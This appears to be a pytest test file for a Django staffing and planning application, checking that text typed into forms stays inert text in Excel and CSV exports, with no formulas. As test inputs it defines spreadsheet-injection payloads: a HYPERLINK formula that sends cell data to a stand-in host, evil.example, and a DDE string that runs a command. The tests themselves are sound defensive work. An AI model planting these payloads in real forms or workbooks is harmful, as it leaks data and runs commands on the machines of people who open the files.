"""Text typed into a form stays text in every workbook (issue 17: `=HYPERLINK(...)` and
`=cmd|...` typed into a proposal reached the Excel exports as live formulas).

Each test posts such text through the forms that take free text, downloads every export it
reaches, and reads the workbook's own XML: no cell holds a formula, and the text is there as
typed, as a string.
"""

from __future__ import annotations

import datetime
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse

from bemanna import report
from bemanna.conftest import PASSWORD
from bemanna.forecast.models import Scenario
from bemanna.plan.models import Area, PlanAction, Proposal
from bemanna.pulse.models import Pulse
from bemanna.tests.xlsx import Workbook

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1+1"
MINUS = "-2+3"
AT = "@SUM(1,1)"
TODAY = datetime.date(2026, 6, 30)


def formulas(content: bytes) -> list[str]:
    """Every formula in a workbook, as `sheet part: formula`, read from the XML itself."""
    package = zipfile.ZipFile(io.BytesIO(content))
    found = []
    for name in package.namelist():
        if name.startswith("xl/worksheets/") and name.endswith(".xml"):
            xml = package.read(name).decode()
            found += [f"{name}: {f}" for f in re.findall(r"<f[ >].*?</f>|<f/>", xml)]
            # A cell of type "str" is a formula's cached string result.
            found += [f"{name}: string formula" for _ in re.findall(r'<c [^>]*t="str"', xml)]
    return found


def texts(content: bytes) -> set[str]:
    book = Workbook(content)
    return {cell for sheet in book.sheets for row in book.rows(sheet) for cell in row if cell}


def assert_inert(content: bytes, *typed: str) -> None:
    assert content[:2] == b"PK"
    assert formulas(content) == []
    found = texts(content)
    for text in typed:
        assert any(text in cell for cell in found), f"{text!r} is not in the workbook as text"


def test_plan_texts_stay_text_in_the_lagesbild_and_the_board_report(
    client, staffed, council, manager, analyst
):
    area = Area.objects.get_or_create(name="Behålla")[0]
    # Anyone: a proposal through the public form.
    proposed = client.post(
        reverse("plan:propose"),
        {"title": LINK, "description": DDE, "area": area.pk, "origin": "staff", "website": ""},
    )
    assert proposed.status_code in (200, 302)
    proposal = Proposal.objects.get()
    # The council decides it and makes it an action; the action's unit manager reports.
    client.login(username="council", password=PASSWORD)
    move = reverse("plan:move", args=[proposal.pk])
    client.post(move, {"to": "preparing"})
    client.post(
        move,
        {"to": "decided", "decided_by": PLUS, "decided_on": "2026-01-15", "reference": MINUS},
    )
    client.post(
        reverse("plan:proposal", args=[proposal.pk]),
        {
            "form": "action",
            "owner": manager.pk,
            "unit": staffed["A"].pk,
            "start": "2026-01-01",
            "end": "2026-03-31",
        },
    )
    action = PlanAction.objects.get()
    url = reverse("plan:action", args=[action.pk])
    client.post(
        url,
        {
            "form": "figure",
            "name": AT,
            "source": "manual",
            "measure": DDE,
            "baseline": 0,
            "target": 1,
            "measure_on": "2026-12-31",
        },
    )
    client.login(username="manager", password=PASSWORD)
    noted = client.post(
        url, {"form": "note", "written_on": "2026-06-01", "kind": "ongoing", "text": DDE}
    )
    assert noted.status_code == 302
    assert action.figures.get().name == AT  # the forms took the text as typed
    client.login(username="analyst", password=PASSWORD)
    lagesbild = client.get(reverse("plan:lagesbild"), {"format": "xlsx", "since": "2026-01-01"})
    assert_inert(lagesbild.content, LINK, DDE, AT, MINUS)
    board = client.get(reverse("keyfigures:report"), {"unit": "R", "year": 2026, "format": "xlsx"})
    assert_inert(board.content, LINK)


def test_pulse_and_unit_texts_stay_text_in_the_pulse_export(client, staffed, hr_admin):
    client.login(username="hr_admin", password=PASSWORD)
    # The unit-tree import refuses a name that would run as a formula, and says why.
    tree = io.BytesIO(
        (
            f"Enhetskod;Enhetsnamn;Överordnad;Nivå\nR;Region Test;;region\nF;{PLUS};R;förvaltning\n"
        ).encode()
    )
    tree.name = "enheter.csv"
    refused = client.post(reverse("workforce:import"), {"kind": "units", "file": tree})
    assert refused.status_code == 400 and "enheter.csv" in refused.content.decode()
    staffed["F"].refresh_from_db()
    assert staffed["F"].name == "Förvaltning F"
    data = {
        "name": LINK,
        "description": DDE,
        "units": [staffed["R"].pk],
        "include_hme": "on",
        "include_comment": "on",
        "languages": "sv,en",
        "schedule": "quarterly",
        "first_opens": "2026-10-01",
        "window_days": "14",
        "reminder_after_days": "7",
        "active": "on",
        "min_answers": "5",
        "min_answers_text": "10",
        "questions-TOTAL_FORMS": "2",
        "questions-INITIAL_FORMS": "0",
        "questions-MIN_NUM_FORMS": "0",
        "questions-MAX_NUM_FORMS": "1000",
        "questions-0-text": AT,
        "questions-0-kind": "agree",
        "questions-0-low": "0",
        "questions-0-high": "100",
        "questions-1-text": DDE,
        "questions-1-kind": "choice",
        "questions-1-choices": f"{MINUS}\n{PLUS}",
        "questions-1-low": "0",
        "questions-1-high": "100",
    }
    assert client.post(reverse("pulse:new"), data).status_code == 302
    pulse = Pulse.objects.get()
    exported = client.get(reverse("pulse:export", args=[pulse.pk]))
    assert_inert(exported.content, LINK, AT, DDE)


def test_a_scenario_name_stays_text_in_the_forecast_report(client, db, tmp_path, settings):
    settings.DATA_DIR = tmp_path
    call_command(
        "demo",
        employees=300,
        seed=3,
        today=TODAY,
        directory=tmp_path,
        no_xlsx=True,
        no_pulse=True,
        verbosity=0,
    )
    assert client.login(username="analytiker", password="demo")
    source = Scenario.objects.get(name="Nuläge")
    created = client.post(
        reverse("forecast:scenarios"),
        {
            "name": DDE,
            "description": LINK,
            "base_date": "2025-12-31",
            "horizon": "2030",
            "draws": "200",
            "copy_from": source.pk,
        },
    )
    assert created.status_code == 302, created.content.decode()[:2000]
    scenario = Scenario.objects.get(name=DDE)
    exported = client.get(reverse("forecast:export", args=[scenario.pk, "xlsx"]), {"unit": "R"})
    assert_inert(exported.content, DDE)


def test_every_workbook_is_made_by_the_one_safe_factory():
    """No module but bemanna/report.py opens an XlsxWriter workbook itself, so every export
    writes strings as strings."""
    package = Path(report.__file__).resolve().parent
    makers = sorted(
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if "tests" not in path.parts and "xlsxwriter" in path.read_text(encoding="utf-8")
    )
    assert makers == ["report.py"]


@pytest.mark.parametrize("text", [LINK, DDE, PLUS, MINUS, AT, "\t=1", "Vanlig text", ""])
def test_a_csv_cell_never_starts_a_formula(text):
    cell = report.csv_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell.removeprefix("'") == text
